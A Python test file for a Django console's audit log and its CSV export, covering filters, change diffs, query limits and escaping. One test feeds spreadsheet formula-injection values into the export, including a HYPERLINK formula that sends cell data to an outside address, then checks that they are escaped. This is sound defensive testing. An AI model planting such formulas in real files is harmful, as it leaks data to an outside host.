import csv
import io
from dataclasses import replace
from datetime import timedelta

import pytest
from django.conf import settings
from django.db import transaction

from applications import audit as audit_trail
from applications import environments
from applications.models import AuditEvent
from console.audit import views as audit
from moderation import bans
from tests.console.pages import address
from tests.factories import DAY, HOUR, NOON, make_environment, staff_actor

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("member")]


def ban(environment, user_id, *, by="grace", now=NOON):
    bans.impose(
        environment=environment,
        user_ids=[user_id],
        expires_at=now + 7 * DAY,
        reason="spam",
        by=staff_actor(by),
        now=now,
    )


@pytest.fixture
def show(client, environment):
    def show(**query):
        return client.get(address("audit:index", environment), query)

    return show


def subjects(response):
    return [line.event.subject for line in response.context["lines"]]


class TestAuditLog:
    def test_lists_the_environment_newest_first(self, environment, show):
        other = make_environment(kind="production", application=environment.application)
        ban(environment, "first")
        ban(other, "elsewhere")
        ban(environment, "second", now=NOON + HOUR)
        assert subjects(show()) == ["second", "first"]

    def test_lists_changes_of_the_application_separately(self, environment, show):
        ban(environment, "mallory")
        types = [line.event.type for line in show(of="application").context["lines"]]
        assert types == ["application.created"]

    @pytest.mark.parametrize(
        "query",
        [
            {"type": "ban.lifted"},
            {"actor": "heidi"},
            {"subject": "mia"},
            {"since": "2026-03-04"},
        ],
    )
    def test_filters_and_shows_each_filter_as_a_chip(self, environment, show, query):
        ban(environment, "mallory")
        ban(environment, "mia")
        bans.lift(
            environment=environment,
            user_ids=["mia"],
            by=staff_actor("heidi"),
            now=NOON + 3 * DAY,
        )
        response = show(**query)
        assert set(subjects(response)) == {"mia"}
        [chip] = response.context["filters"]
        assert chip["url"] == "?"

    def test_includes_the_last_day_of_a_period(self, environment, show):
        ban(environment, "that-day", now=NOON)
        ban(environment, "next-day", now=NOON + DAY)
        assert subjects(show(since="2026-03-02", until="2026-03-02")) == ["that-day"]

    def test_shows_before_and_after(self, environment, show):
        ban(environment, "mallory")
        bans.impose(
            environment=environment,
            user_ids=["mallory"],
            expires_at=None,
            reason="worse",
            by=staff_actor(),
            now=NOON + HOUR,
        )
        changes = {change.word: change for change in show().context["lines"][0].changes}
        assert changes["until"].before == NOON + 7 * DAY
        assert changes["until"].after == "permanent"
        assert (changes["reason"].before, changes["reason"].after) == ("spam", "worse")

    def test_shows_spans_in_readable_units(self, environment, show):
        environments.change(
            environment=environment,
            plan=environment.plan,
            token_lifetime=timedelta(days=30),
            reactivation_cooling_off=timedelta(0),
            by=staff_actor(),
            now=NOON,
        )
        [change] = show().context["lines"][0].changes
        assert (change.before, change.after) == ("no end", "30 days")

    @pytest.mark.parametrize(
        "query",
        [
            {"type": "no.such"},
            {"since": "yesterday"},
            {"until": "9999-12-31"},
            {"cursor": "junk"},
            {"actor": "\0"},
            {"subject": "x" * 200},
            {"of": "nothing"},
        ],
    )
    def test_accepts_any_query(self, environment, show, query):
        ban(environment, "mallory")
        assert show(**query).status_code == 200

    def test_makes_no_more_queries_for_more_lines(
        self, environment, show, django_assert_num_queries
    ):
        for number in range(60):
            ban(environment, f"user-{number}")
        # Session, account, environment, membership, lines.
        with django_assert_num_queries(5):
            assert len(subjects(show())) == 50


class TestAuditExport:
    def test_writes_what_the_filters_find(self, client, environment):
        ban(environment, "mallory")
        ban(environment, "mia")
        response = client.get(address("audit:export", environment), {"subject": "mia"})
        [row] = csv.DictReader(io.StringIO(response.text))
        assert row["subject"] == "mia"
        assert row["at"] == NOON.isoformat()
        assert '"reason": "spam"' in row["after"]
        assert "attachment" in response["Content-Disposition"]

    def test_has_no_cell_that_a_spreadsheet_would_run(self, client, environment):
        formula = '=HYPERLINK("http://192.0.2.66/?"&A1,"x")'
        by = replace(staff_actor("@SUM(A1)"), via=formula, request_id="\t=1")
        for user_id in ("=1+2", "+cmd", "-2", "mia"):
            with transaction.atomic():
                audit_trail.record(
                    "ban.lifted", environment=environment, subject=user_id, by=by, now=NOON
                )
        response = client.get(address("audit:export", environment))
        rows = {row["subject"]: row for row in csv.DictReader(io.StringIO(response.text))}
        assert rows.keys() == {"'=1+2", "'+cmd", "'-2", "mia"}
        mia = rows["mia"]
        assert (mia["via"], mia["request_id"]) == (f"'{formula}", "'\t=1")
        assert {row["actor"] for row in rows.values()} == {"'@SUM(A1)"}

    def test_is_the_only_way_to_write_csv(self):
        """So that no other export forgets to escape formulas."""
        packages = ("applications", "users", "moderation", "api", "gateway", "console", "rollcall")
        sources = [path for each in packages for path in (settings.BASE_DIR / each).rglob("*.py")]
        writers = [path.name for path in sources if "csv" in path.read_text().split()]
        assert writers == ["exports.py"]

    def test_stops_at_its_limit(self, client, environment, monkeypatch):
        monkeypatch.setattr(audit, "EXPORT_AT_MOST", 2)
        for number in range(3):
            ban(environment, f"user-{number}", now=NOON + number * HOUR)
        response = client.get(address("audit:export", environment))
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert [row["subject"] for row in rows] == ["user-2", "user-1"]
        assert AuditEvent.objects.filter(environment=environment).count() == 3
